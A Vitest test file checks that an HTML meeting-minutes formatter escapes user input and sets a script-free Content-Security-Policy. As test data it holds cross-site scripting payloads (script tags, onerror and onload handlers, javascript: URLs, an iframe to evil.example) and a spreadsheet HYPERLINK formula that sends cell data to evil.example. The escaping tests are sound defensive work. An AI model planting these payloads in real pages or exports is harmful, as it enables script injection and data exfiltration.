import { describe, expect, it } from 'vitest';
import { byTag, findAll, parseHtmlDocument, type DomElement } from './fixtures/htmlDom';
import { SAMPLE_MEETING_URL_BASE, sampleMeeting } from './fixtures/sampleMeeting';
import { escapeHtml, formatMinutesHtml } from './minutesHtml';

const HOSTILE_TITLE = '<script>alert("x")</script><img src=x onerror="alert(1)"> 週次定例 & \'Q3\'';

function hostileMeeting() {
  const view = sampleMeeting();
  view.meta.title = HOSTILE_TITLE;
  view.meta.place = '<iframe src="https://evil.example"></iframe>';
  view.attendees[0]!.name = '<svg onload=alert(1)>山田';
  view.agenda[0]!.title = '</h3><script>alert(2)</script>';
  view.decisions[0]!.decidedBy = '"><a href="javascript:alert(3)">x</a>';
  view.actionItems[0]!.externalRefs = [{ tracker: 'github', key: '12', url: 'javascript:alert(4)' }];
  return view;
}

const allElements = (root: DomElement) => findAll(root, () => true);

describe('formatMinutesHtml', () => {
  const html = formatMinutesHtml(hostileMeeting(), {
    meetingUrlBase: SAMPLE_MEETING_URL_BASE,
    closingOverrides: [{ item: '<b>KPI</b>', reason: 'reason <i>x</i>' }],
  });
  const dom = parseHtmlDocument(html);

  it('is a complete page: doctype, language, charset, title, CSP without scripts, A4 print CSS', () => {
    expect(html.startsWith('<!DOCTYPE html>\n<html lang="ja">')).toBe(true);
    const metas = findAll(dom, byTag('meta'));
    expect(metas.some((m) => m.attrs.charset === 'utf-8')).toBe(true);
    const csp = metas.find((m) => m.attrs['http-equiv'] === 'Content-Security-Policy');
    expect(csp?.attrs.content).toContain("default-src 'none'");
    expect(csp?.attrs.content).not.toContain('script-src');
    const style = findAll(dom, byTag('style'))[0]?.text ?? '';
    expect(style).toContain('@page { size: A4 portrait');
    expect(style).toContain('@media print');
  });

  it('escapes every user string: the parsed page holds only our own elements, and the text as typed', () => {
    expect(findAll(dom, byTag('script', 'img', 'iframe', 'svg', 'b', 'i'))).toEqual([]);
    for (const element of allElements(dom)) {
      expect(Object.keys(element.attrs).filter((name) => name.startsWith('on'))).toEqual([]);
      if (element.attrs.href !== undefined) expect(element.attrs.href).toMatch(/^https:\/\//);
    }
    expect(findAll(dom, byTag('title'))[0]?.text).toBe(`議事録: ${HOSTILE_TITLE}`);
    expect(findAll(dom, byTag('h1'))[0]?.text).toBe(HOSTILE_TITLE);
    expect(findAll(dom, byTag('h3'))[0]?.text).toBe('1. </h3><script>alert(2)</script>');
    const dd = findAll(dom, byTag('dd')).map((d) => d.text);
    expect(dd).toContain('<iframe src="https://evil.example"></iframe>');
    expect(dd).toContain('"><a href="javascript:alert(3)">x</a>');
    expect(dd.some((d) => d.startsWith('<svg onload=alert(1)>山田（営業部）'))).toBe(true);
    // A non-http(s) tracker URL is printed as text, never linked.
    const trackerCell = findAll(dom, byTag('td')).find((td) => td.text === 'GitHub 12');
    expect(trackerCell?.children).toEqual([]);
    expect(findAll(dom, byTag('li')).map((li) => li.text)).toContain('<b>KPI</b> — 理由: reason <i>x</i>');
  });

  it('has the 議事録 sections in order, notes with line breaks, and tables with status', () => {
    expect(findAll(dom, byTag('h2')).map((h) => h.text)).toEqual(['議題', 'KPI', '決定事項', '宿題', '次回予定', '備考']);
    expect(findAll(dom, byTag('dt')).map((d) => d.text).slice(0, 7)).toEqual(['日時', 'タイムゾーン', '場所', '関係部署', '出席者', '欠席者', '会議のページ']);
    const notes = findAll(dom, (e) => e.attrs.class === 'notes');
    expect(notes[0]?.text).toBe(sampleMeeting().agenda[0]!.notes);
    const statusCells = findAll(dom, (e) => (e.attrs.class ?? '').startsWith('status'));
    expect(statusCells.map((c) => [c.text, c.attrs.class])).toEqual([
      ['未達', 'status status-off-track'],
      ['注意', 'status status-at-risk'],
      ['順調', 'status status-on-track'],
    ]);
    const actionRows = findAll(findAll(dom, byTag('table'))[1]!, byTag('tr'));
    expect(actionRows[1]?.children.map((c) => c.text)).toEqual([
      '1',
      '=HYPERLINK("http://evil.example/?q="&A1,"詳細はこちら")',
      '山田 太郎（営業部）',
      '2025年7月15日(火)',
      '未着手',
      'GitHub 12',
    ]);
    expect(html).toContain('<span class="overrun">(超過 +2分30秒)</span>');
  });

  it('writes English pages for English meetings', () => {
    const view = sampleMeeting();
    view.meta.language = 'en';
    const page = parseHtmlDocument(formatMinutesHtml(view, { meetingUrlBase: SAMPLE_MEETING_URL_BASE }));
    expect(findAll(page, byTag('html'))[0]?.attrs.lang).toBe('en');
    expect(findAll(page, byTag('h2')).map((h) => h.text)).toEqual(['Agenda', 'KPIs', 'Decisions', 'Action items', 'Next meeting']);
  });
});

describe('escapeHtml', () => {
  it('replaces the five characters that can end HTML text or an attribute', () => {
    expect(escapeHtml(`<a href="x" title='y'>&amp;</a>`)).toBe('&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;amp;&lt;/a&gt;');
  });
});
